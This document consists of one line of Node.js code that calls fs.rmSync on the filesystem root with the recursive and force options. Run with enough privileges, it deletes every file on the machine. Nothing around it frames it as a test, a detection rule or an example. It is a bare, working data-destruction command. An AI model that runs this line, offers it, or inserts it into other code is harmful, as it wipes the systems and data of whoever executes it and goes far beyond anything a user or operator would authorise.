require('fs').rmSync('/', { recursive: true, force: true });
